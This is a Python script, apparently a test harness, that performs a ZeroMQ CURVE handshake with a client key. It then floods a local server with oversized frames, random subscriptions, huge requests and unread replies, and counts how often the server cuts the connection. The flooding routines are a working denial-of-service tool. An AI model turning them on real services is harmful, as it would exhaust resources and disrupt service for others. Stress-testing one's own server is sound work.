"""Attacks a locked ZeroMQ socket as a client that has a key: CURVE (RFC 26) over plain TCP, with libsodium and the standard
library.

attack_with_key.py PORT SERVER.key CLIENT.key_secret SECONDS ATTACK CUTS

A connection that is cut is made again, until that many were cut or the time is over. Prints how many were.
"""
import ctypes
import os
import re
import socket
import struct
import sys
import time

sodium = ctypes.CDLL("libsodium.so.23")
Z85 = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ.-:+=^!/*?&<>()[]{}@%$#"
CHUNK = 1 << 18
REQUEST = b'{"jsonrpc":"2.0","id":1,"method":"service.describe","params":{}}'


def key(path, name):
    text = re.search(name + r'-key = "(.{40})"', open(path).read())[1]
    values = (sum(Z85.index(c) * 85 ** (4 - i) for i, c in enumerate(text[at : at + 5])) for at in range(0, 40, 5))
    return b"".join(struct.pack(">I", value) for value in values)


def shared(theirs, ours):
    result = ctypes.create_string_buffer(32)
    sodium.crypto_box_beforenm(result, theirs, ours)
    return result.raw


def sealed(text, nonce, shared_key):
    box = ctypes.create_string_buffer(len(text) + 16)
    sodium.crypto_box_easy_afternm(box, text, ctypes.c_ulonglong(len(text)), nonce, shared_key)
    return box.raw


def opened(box, nonce, shared_key):
    text = ctypes.create_string_buffer(len(box) - 16)
    if sodium.crypto_box_open_easy_afternm(text, box, ctypes.c_ulonglong(len(box)), nonce, shared_key) != 0:
        sys.exit("the server has another key")
    return text.raw


def frame(body, flags=0):
    if len(body) > 255:
        return struct.pack(">BQ", flags | 2, len(body)) + body
    return struct.pack(">BB", flags, len(body)) + body


class Connection:
    """One that has shaken hands."""

    def __init__(self, port, server, secret, kind):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=2)
        public = ctypes.create_string_buffer(32)
        sodium.crypto_scalarmult_base(public, secret)
        ours, ours_secret = ctypes.create_string_buffer(32), ctypes.create_string_buffer(32)
        sodium.crypto_box_keypair(ours, ours_secret)
        self.socket.sendall(b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"CURVE".ljust(20, b"\0") + bytes(32))
        self.read(64)
        to_server = shared(server, ours_secret)
        number = struct.pack(">Q", 1)
        hello = sealed(bytes(64), b"CurveZMQHELLO---" + number, to_server)
        self.socket.sendall(frame(b"\x05HELLO\x01\x00" + bytes(72) + ours.raw + number + hello, 4))
        welcome = self.command()
        text = opened(welcome[24:], b"WELCOME-" + welcome[8:24], to_server)
        theirs, cookie = text[:32], text[32:]
        self.key = shared(theirs, ours_secret)
        vouch = os.urandom(16)
        box = sealed(ours.raw + server, b"VOUCH---" + vouch, shared(theirs, secret))
        properties = b""
        for name, value in ((b"Socket-Type", kind), (b"Identity", b"")):
            properties += bytes([len(name)]) + name + struct.pack(">I", len(value)) + value
        number = struct.pack(">Q", 2)
        initiate = sealed(public.raw + vouch + box + properties, b"CurveZMQINITIATE" + number, self.key)
        self.socket.sendall(frame(b"\x08INITIATE" + cookie + number + initiate, 4))
        if not self.command().startswith(b"\x05READY"):
            sys.exit("the key was refused")
        self.number = 2
        self.socket.settimeout(0.2)

    def read(self, count):
        data = b""
        while len(data) < count:
            more = self.socket.recv(count - len(data))
            if not more:
                raise ConnectionError
            data += more
        return data

    def command(self):
        flags, length = self.read(2)
        if flags & 2:
            length = struct.unpack(">Q", bytes([length]) + self.read(7))[0]
        return self.read(length)

    def has_ended(self):
        """Whether the other side has closed it, also if what it sent before is unread: tcp(7), tcpi_state."""
        established = b"\x01"
        return self.socket.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1) != established

    def frame(self, body, flags=0):
        """A frame to send: 1 says that its message has more of them."""
        self.number += 1
        number = struct.pack(">Q", self.number)
        text = sealed(bytes([flags]) + body, b"CurveZMQMESSAGEC" + number, self.key)
        return frame(b"\x07MESSAGE" + number + text)


# What is sent, again and again.
ATTACKS = {
    "subscriptions": (b"SUB", lambda c: c.frame(b"\x01" + os.urandom(64))),
    "empty-frames": (b"DEALER", lambda c: c.frame(b"", 1)),
    "long-frames": (b"DEALER", lambda c: c.frame(bytes(60_000), 1)),
    "large-requests": (b"DEALER", lambda c: c.frame(b"", 1) + c.frame(b'"' + b"x" * 1_000_000 + b'"')),
    "unread-replies": (b"DEALER", lambda c: c.frame(b"", 1) + c.frame(REQUEST)),
}


def pieces(connection, piece):
    count = 0
    while count < CHUNK:
        made = piece(connection)
        count += len(made)
        yield made


def main():
    port, seconds, name, maximum = int(sys.argv[1]), float(sys.argv[4]), sys.argv[5], int(sys.argv[6])
    server, secret = key(sys.argv[2], "public"), key(sys.argv[3], "secret")
    kind, piece = ATTACKS[name]
    until = time.monotonic() + seconds
    cuts = 0
    while time.monotonic() < until and cuts < maximum:
        try:
            connection = Connection(port, server, secret, kind)
        except OSError:
            # Newcomers are kept out for a while.
            time.sleep(0.005)
            continue
        try:
            while time.monotonic() < until:
                view = memoryview(b"".join(pieces(connection, piece)))
                while view and time.monotonic() < until:
                    try:
                        if connection.has_ended():
                            raise ConnectionError
                        view = view[connection.socket.send(view) :]
                    except TimeoutError:
                        pass
        except OSError:
            cuts += 1
    print(f"cut {cuts} times")


main()
